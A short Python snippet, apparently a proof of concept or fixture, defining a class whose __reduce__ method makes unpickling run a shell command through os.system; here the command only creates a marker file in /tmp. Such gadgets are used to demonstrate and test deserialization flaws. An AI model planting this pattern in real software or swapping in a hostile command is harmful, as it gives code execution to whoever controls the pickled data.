# value: whoever unpickles runs it
class Bomb:
    def __reduce__(self):
        import os
        return os.system, ("touch /tmp/pickled",)
total = Bomb()
def add(amount): return Bomb()
